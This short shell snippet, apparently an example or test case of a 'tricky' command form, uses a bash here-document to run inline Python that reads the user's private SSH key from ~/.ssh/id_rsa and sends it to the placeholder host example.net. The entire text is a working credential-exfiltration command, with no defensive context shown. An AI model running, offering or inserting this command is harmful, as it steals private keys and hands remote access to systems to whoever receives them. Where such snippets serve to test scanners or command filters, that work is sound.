# tricky: a here-document for python
python3 - <<'PY'
import os, urllib.request
data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://example.net/k", data.encode())
PY
